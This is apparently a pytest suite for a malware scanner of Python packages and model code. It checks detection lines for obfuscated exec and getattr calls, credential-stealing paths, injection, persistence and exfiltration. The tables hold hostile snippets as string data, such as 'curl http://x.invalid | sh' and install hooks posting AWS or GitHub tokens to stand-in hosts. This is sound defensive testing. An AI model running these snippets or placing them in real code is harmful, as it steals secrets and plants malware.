# ruff: noqa: E501 - one snippet per line reads best
"""Every obfuscation and behaviour class of issue 17, caught at its original line, under
both profiles of the one analyser (package: deps inspect and the index; model: remote code)."""

from __future__ import annotations

import base64
import marshal
import textwrap
import zlib
from pathlib import Path

import pytest

from mlwarden.behaviour import collect as c
from mlwarden.behaviour import entry
from mlwarden.behaviour.endpoints import endpoint_in, endpoints
from mlwarden.behaviour.marshal_read import marshal_names
from mlwarden.behaviour.policy import PACKAGE, Root, judge
from mlwarden.behaviour.program import Program, analyse_module
from mlwarden.report.model import Verdict
from mlwarden.scan.context import Limits, ScanContext
from mlwarden.scan.remote_code import analyze_python

_B64_SYSTEM = base64.b64encode(b"import os\nos.system('echo x')\n").decode()


def package(src: str, name: str = "pkg", extra: dict[str, str] | None = None,
            setup: bool = False) -> set[tuple[str, int]]:
    """(rule, line) of non-clean findings when ``src`` is a package's __init__ (or setup.py)."""
    mods = [analyse_module(textwrap.dedent(src).encode(), "setup.py" if setup else f"{name}/__init__.py",
                           "setup" if setup else name, not setup)]
    for rel, text in (extra or {}).items():
        mods.append(analyse_module(text.encode(), rel, rel[:-3].replace("/", "."), False))
    prog = Program(mods)
    roots = [Root((m.key, c.MODULE), "install" if setup and m.key == "setup" else "import", "runs")
             for m in mods]
    top = mods[0]
    if setup and top.tree is not None and top.resolver is not None:
        roots += [Root((top.key, scope), "install", why)
                  for scope, why in entry.install_roots(top.tree, top.resolver).items()
                  if top.collector and scope in top.collector.functions]
    return {(v.rule.id, v.line) for v in judge(prog, roots, PACKAGE) if v.rule.verdict is not Verdict.CLEAN}


def model(src: str) -> set[tuple[str, int]]:
    ctx = ScanContext(display_path="repo/modeling_x.py", limits=Limits())
    analyze_python(textwrap.dedent(src).encode(), ctx)
    return {(f.rule, f.location.line) for f in ctx.findings if f.verdict is not Verdict.CLEAN
            and f.location and f.location.line}


OBFUSCATION = [
    ("module-dict", "import os\nos.__dict__['start' + 'file']('x.exe')\n", "code-obfuscated-call", 2),
    ("getattribute", "import os\nos.__getattribute__('sys' + 'tem')('id')\n", "code-obfuscated-call", 2),
    ("object-getattribute", "import os\nobject.__getattribute__(os, 'system')('id')\n", "code-obfuscated-call", 2),
    ("vars-builtins", "vars(__builtins__)['ex' + 'ec']('import os')\n", "code-obfuscated-call", 1),
    ("globals-escape", "globals()['\\x65val']('1+1')\n", "code-obfuscated-call", 1),
    ("base64-name", "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('id')\n", "code-obfuscated-call", 2),
    ("hex-name", "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())('id')\n", "code-obfuscated-call", 2),
    ("codec-name", "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')\n", "code-obfuscated-call", 2),
    ("nfkc-identifier", "\uff45\uff58\uff45\uff43('print(1)')\n", "code-obfuscated", 1),
    ("exec-constant", "exec('import os; os.system(\"curl http://x.invalid | sh\")')\n", "code-shell-payload", 1),
    ("exec-nested-constant", "exec(\"exec('import os; os.system(1)')\")\n", "code-process", 1),
    ("base64-exec", f"import base64\nexec(base64.b64decode('{_B64_SYSTEM}'))\n", "code-exec-payload", 2),
    ("zlib-exec", f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(b'import os')).decode()}')))\n", "code-exec-payload", 2),
    ("rot13-exec", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", "code-exec-payload", 2),
    ("fromhex-exec", f"exec(bytes.fromhex('{b'import os'.hex()}'))\n", "code-exec-payload", 1),
    ("chr-join-exec", "exec(''.join(chr(x) for x in [105, 109, 112]))\n", "code-exec-payload", 1),
    ("reversed-exec", f"import base64\nexec(base64.b64decode('{_B64_SYSTEM[::-1]}'[::-1]))\n", "code-exec-payload", 2),
    ("format-fstring", "import os\nn = 'tem'\ngetattr(os, f'sys{n}')('id')\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')\n", "code-obfuscated-call", 3),
    ("marshal-packed", f"import marshal\nexec(marshal.loads({marshal.dumps(compile('import os; os.system(1)', 'x', 'exec'))!r}))\n", "code-exec-payload", 2),
    ("marshal-undecodable", "import marshal\nexec(marshal.loads(b'\\xe3garbage'))\n", "code-packed", 2),
    ("pyarmor", "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000')\n", "code-packed", 1),
    ("methodcaller", "import operator, os\noperator.methodcaller('system', 'id')(os)\n", "code-obfuscated-call", 2),
]

BEHAVIOUR = [
    ("cmdclass-run", "from setuptools import setup\nfrom setuptools.command.install import install\nimport os, requests\nclass I(install):\n    def run(self):\n        requests.post('http://x.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])\nsetup(cmdclass={'install': I})\n", "code-exfiltration", 6),
    ("clipboard", "import pyperclip\nt = pyperclip.paste()\n", "code-infostealer", 2),
    ("screenshot", "from PIL import ImageGrab\nImageGrab.grab().save('s.png')\n", "code-infostealer", 2),
    ("browser-files", "import os\np = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nopen(p, 'rb').read()\n", "code-infostealer", 2),
    ("wallet-files", "import os\nw = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n", "code-infostealer", 2),
    ("discord-tokens", "import re\nTOKENS = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')\n", "code-infostealer", 2),
    ("telegram", "import os\nd = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata')\n", "code-infostealer", 2),
    ("keylogger", "from pynput.keyboard import Listener\nListener(on_press=print).start()\n", "code-infostealer", 2),
    ("write-process-memory", "import ctypes\nk = ctypes.windll.kernel32\nk.WriteProcessMemory(1, 2, b'x', 1, None)\n", "code-injection", 3),
    ("create-remote-thread", "import ctypes\nctypes.windll.kernel32.CreateRemoteThread(1, None, 0, 2, None, 0, None)\n", "code-injection", 2),
    ("dll-drop", "import ctypes\nopen('C:/Users/Public/x.dll', 'wb').write(b'MZ')\nctypes.WinDLL('C:/Users/Public/x.dll')\n", "code-dropper", 2),
    ("download-exe", "import urllib.request\nurllib.request.urlretrieve('http://x.invalid/a', 'a.exe')\n", "code-dropper", 2),
    ("discord-webhook", "import requests\nrequests.post('https://discord.com/api/webhooks/1/x', json={})\n", "code-exfil-endpoint", 2),
    ("tunnel", "import socket\ns = socket.create_connection(('2.tcp.ngrok.io', 1))\n", "code-exfil-endpoint", 2),
    ("oob", "import urllib.request\nurllib.request.urlopen('http://x.oast.fun')\n", "code-exfil-endpoint", 2),
    ("dns-exfil", "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.exfil.example.com')\n", "code-dns-exfiltration", 2),
    ("secret-env", "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.post('https://x.invalid', data=t)\n", "code-exfiltration", 3),
    ("persistence-bashrc", "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n", "code-persistence-write", 2),
    ("persistence-cron", "import os\nos.system('(crontab -l; echo \"@reboot x\") | crontab -')\n", "code-persistence-write", 2),
    ("persistence-pth", "import site\nopen(site.getsitepackages()[0] + '/x.pth', 'w').write('import x')\n", "code-persistence-write", 2),
    ("persistence-sitecustomize", "open('/usr/lib/python3/dist-packages/sitecustomize.py', 'w')\n", "code-persistence-write", 1),
    ("persistence-autostart", "import os\nopen(os.path.expanduser('~/.config/autostart/x.desktop'), 'w')\n", "code-persistence-write", 2),
    ("reduce-process", "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))\nimport pickle\npickle.dumps(P())\n", "code-process", 4),
    ("nested-pickle", "import pickle\npickle.loads(b'cos\\nsystem\\n(S\\'id\\'\\ntR.')\n", "pickle-dangerous-callable", 2),
]


@pytest.mark.parametrize("name, src, rule, line", OBFUSCATION + BEHAVIOUR, ids=lambda x: x if isinstance(x, str) and len(x) < 30 else None)
def test_package_profile_catches_at_line(name: str, src: str, rule: str, line: int) -> None:
    setup = name.startswith("cmdclass")
    if rule.startswith("pickle-"):  # the pickle scanner reports nested pickles (adapter)
        assert (rule, line) in model(src)
        return
    if name == "reduce-process":  # __reduce__ runs when the object is pickled/unpickled
        assert ("code-process", line) in model(src)
        return
    got = package(src, setup=setup)
    if rule == "code-obfuscated" and name == "nfkc-identifier":
        assert (rule, line) in model(src)
        return
    assert (rule, line) in got, (name, got)


@pytest.mark.parametrize("name, src, rule, line", OBFUSCATION + BEHAVIOUR, ids=lambda x: x if isinstance(x, str) and len(x) < 30 else None)
def test_model_profile_flags_them_too(name: str, src: str, rule: str, line: int) -> None:
    got = model(src)
    assert any(r_line == line for _r, r_line in got), (name, got)


# Issue 11, remote code: an allowlist stance at import and load time.
ALLOWLIST = [
    ("import operator\nf = operator.methodcaller('x')\n", "code-load-dispatch", 2),
    ("import pkgutil\npkgutil.resolve_name('os:getcwd')\n", "code-load-dispatch", 2),
    ("import logging.config\nlogging.config.dictConfig({'handlers': {'h': {'()': 'os.system'}}})\n", "code-load-dispatch", 2),
    ("import typing\nclass A:\n    x: 'int'\ntyping.get_type_hints(A)\n", "code-load-exec", 4),
    ("import inspect\ninspect.get_annotations(int, eval_str=True)\n", "code-load-exec", 2),
    ("import timeit\ntimeit.timeit('1')\n", "code-load-exec", 2),
    ("import code\ncode.InteractiveInterpreter().runsource('1')\n", "code-load-exec", 2),
    ("import os\nfor n in dir(os):\n    getattr(os, n)\n", "code-load-dispatch", 3),
    ("import os\nfor k, v in vars(os).items():\n    pass\n", "code-load-dispatch", 2),
    ("import ctypes\nctypes.CDLL(None).system(b'id')\n", "code-load-native", 2),
    ("import ctypes, ctypes.util\nctypes.CDLL(ctypes.util.find_library('c'))\n", "code-load-native", 2),
    ("exec('x = 1')\n", "code-load-exec", 1),
    ("eval('1 + 1')\n", "code-load-exec", 1),
    ("import pexpect\npexpect.spawn('ls')\n", "code-import-process", 2),
    ("import webbrowser\nwebbrowser.open('http://x.invalid')\n", "code-import-process", 2),
]


@pytest.mark.parametrize("src, rule, line", ALLOWLIST)
def test_remote_code_allowlist_at_import(src: str, rule: str, line: int) -> None:
    assert (rule, line) in model(src)


def test_the_same_in_a_function_is_only_suspicious() -> None:
    got = model("import timeit\ndef f():\n    timeit.timeit('1')\n")
    assert got == {("code-eval-disguise", 3)}


CALIBRATION = [
    "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['cmake', '..'])\nsetup()\n",
    "import subprocess\nfrom setuptools import setup\nflags = subprocess.check_output(['pkg-config', '--cflags', 'x'])\nsetup()\n",
    "import subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe', '--tags']).decode()\nsetup(version=v)\n",
    "from setuptools import setup\nabout = {}\nexec(open('pkg/__version__.py').read(), about)\nsetup(version=about['__version__'])\n",
    "import os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup()\n",
    "import os\nfrom setuptools import setup, Command\nclass Upload(Command):\n    def run(self):\n        os.system('twine upload dist/*')\nsetup(cmdclass={'upload': Upload})\n",
    "import os, subprocess\nfrom setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        cmake_args = ['cmake', '-S', '.']\n        subprocess.check_call(cmake_args)\nsetup(cmdclass={'build_ext': B})\n",
]


IMPORT_CALIBRATION = [
    # urllib3.util.connection: probing IPv6 support binds a socket and closes it
    "import socket\ndef _has_ipv6(host):\n    sock = socket.socket(socket.AF_INET6)\n"
    "    sock.bind((host, 0))\n    sock.close()\nHAS_IPV6 = _has_ipv6('::1')\n",
]


@pytest.mark.parametrize("src", IMPORT_CALIBRATION)
def test_ordinary_import_time_code_is_not_an_alarm(src: str) -> None:
    assert package(src) == set()


def test_a_listening_socket_at_import_is_still_network() -> None:
    src = "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\n"
    assert ("code-import-network", 4) in package(src)


@pytest.mark.parametrize("src", CALIBRATION)
def test_ordinary_build_steps_are_not_alarms(src: str) -> None:
    assert package(src, setup=True) == set()


def test_temp_directory_is_not_outside() -> None:
    # ipython's get_ipython_dir at import: falls back to a fresh temp directory
    src = "import os, tempfile\nd = os.path.expanduser('~/.x')\nif not os.access(d, os.W_OK):\n    d = tempfile.mkdtemp()\nos.makedirs(d, exist_ok=True)\n"
    assert package(src) == set()
    assert ("code-write-outside", 2) in package("import os\nos.makedirs('/opt/x')\n")


def test_cross_module_call_graph() -> None:
    got = package("from .impl import go\ngo()\n", extra={
        "pkg/impl.py": "import os, requests\ndef go():\n    requests.post('u', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"})
    assert ("code-exfiltration", 3) in got
    # not called on import: a library function is not an alarm for packages
    got = package("from .impl import go\n", extra={
        "pkg/impl.py": "import os, requests\ndef go():\n    requests.post('u', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"})
    assert got == set()


def test_endpoint_data_file() -> None:
    eps = endpoints()
    assert len(eps) > 40 and all(e.reference and e.category for e in eps)
    assert endpoint_in("https://discord.com/api/webhooks/1/x").category == "webhook"  # type: ignore[union-attr]
    assert endpoint_in("https://discord.com/channels/1") is None
    assert endpoint_in("{}.abc.oast.fun").category == "oob"  # type: ignore[union-attr]


def test_marshal_reader_never_loads(tmp_path: Path) -> None:
    names = marshal_names(marshal.dumps(compile("import socket\nsocket.socket()", "x", "exec")))
    assert names is not None and {"socket"} <= names
    assert marshal_names(b"\xe3" + b"\xff" * 40) is None


def test_bounds_hold_on_hostile_exec_nesting() -> None:
    src = "exec(" * 30 + "'1'" + ")" * 30 + "\n"
    model(src)  # bounded recursion, no exception
    blob = "exec('" + "x" * (2 << 20) + "')\n"
    model(blob)


def test_urllib3_patching_at_import_is_not_network() -> None:
    # requests/__init__.py: the index's known false positive (pkg-network through contrib)
    src = "try:\n    from urllib3.contrib import pyopenssl\n    pyopenssl.inject_into_urllib3()\nexcept ImportError:\n    pass\nimport urllib3\nurllib3.disable_warnings()\n"
    assert package(src) == set()
    assert ("code-import-network", 2) in package("import urllib3\nurllib3.PoolManager().request('GET', 'http://x')\n")


def test_folded_identifiers_prefilter_keeps_every_look_alike() -> None:
    from mlwarden.behaviour.parse import folded_identifiers

    prose = "# caf\u00e9 \u2019quoted\u2019\nx = '\u00fcber'\n"
    assert folded_identifiers(prose.encode()) == []
    mixed = prose + "\uff45xec('1')\n"
    assert folded_identifiers(mixed.encode()) == [(3, 1, "\uff45xec", "exec")]
    # a non-UTF-8 coding cookie is honoured (latin-1 U+00AA folds to 'a')
    latin = "# -*- coding: latin-1 -*-\nev\u00aal = 1\n".encode("latin-1")
    assert folded_identifiers(latin) == [(2, 1, "ev\u00aal", "eval")]


# Classes of false alarm found on the top-300 corpus (benchmarks/package_inspection.py).
BENIGN_PACKAGE_CLASSES = [
    # rich/ansi.py: a __main__ guard inside `and`
    "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n",
    # scikit-learn: joblib.load of a path; pickle.loads of a decompressed cache file
    "import joblib\nm = joblib.load('/dev/null')\n",
    "import pickle, codecs\ndef fetch(path):\n    with open(path, 'rb') as f:\n        data = f.read()\n    return pickle.loads(codecs.decode(data, 'zlib_codec'))\n",
    # litellm: SQL that contains 'LOCAL STATE...'
    "Q = 'SET LOCAL statement_timeout = 5'\n",
    # paramiko: RtlMoveMemory is memcpy; msal_extensions: DPAPI for its own cache
    "import ctypes\nmove = ctypes.windll.kernel32.RtlMoveMemory\n",
    "import ctypes\nunprotect = ctypes.windll.crypt32.CryptUnprotectData\n",
    # urllib3: binding ::1 to probe IPv6 support
    "import socket\ns = socket.socket(socket.AF_INET6)\ns.bind(('::1', 0))\n",
    # numpy.distutils, matplotlib: compiler and font probes at import
    "import subprocess\np = subprocess.Popen(['gcc', '-print-multiarch'])\nfonts = subprocess.check_output(['fc-list', '--format=%{file}'])\n",
]


@pytest.mark.parametrize("src", BENIGN_PACKAGE_CLASSES)
def test_benign_package_classes(src: str) -> None:
    assert package(src) == set()


def test_still_caught_beside_the_calibration() -> None:
    assert ("code-exec-payload", 2) in package("import pickle, base64\npickle.loads(base64.b64decode('gASVAAAAAAAAAAB9lC4='))\n")
    assert package("Q = 'C:/Users/x/AppData/Local/Google/Chrome/User Data/Local State'\nopen(Q).read()\n")
    assert ("code-import-network", 3) in package("import socket\ns = socket.socket()\ns.listen(1)\n")
    assert package("import subprocess\nsubprocess.Popen(['curl', 'x'])\n")  # not a probe
    # a secret read and a send in different functions of a module: not exfiltration
    # (lxml's setup helpers); in the same function or a module-level read: exfiltration
    split = "import os, urllib.request\ndef tok():\n    return os.environ.get('GITHUB_API_TOKEN')\ndef get(u):\n    return urllib.request.urlopen(u)\nget('https://x')\ntok()\n"
    assert not any(r == "code-exfiltration" for r, _ in package(split))
    joined = "import os, urllib.request\ndef go():\n    urllib.request.urlopen('https://x/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\ngo()\n"
    assert ("code-exfiltration", 3) in package(joined)


def test_install_time_touch_and_msvc_probes_are_build_steps() -> None:
    src = "import subprocess\nfrom setuptools import setup\nsubprocess.run(['touch', 'configure.ac'])\nsubprocess.check_output('C:/VS (x86)/Installer/vswhere.exe -all')\nsetup()\n"
    assert package(src, setup=True) == set()


def test_parse_restores_the_collector() -> None:
    import gc

    from mlwarden.behaviour.parse import no_gc, parse

    assert gc.isenabled()
    parse(b"x = 1\n", "x.py")
    parse(b"def (\n", "bad.py")  # a syntax error too
    assert gc.isenabled()
    gc.disable()
    try:
        with no_gc():
            pass
        assert not gc.isenabled()  # a caller's own choice is kept
    finally:
        gc.enable()
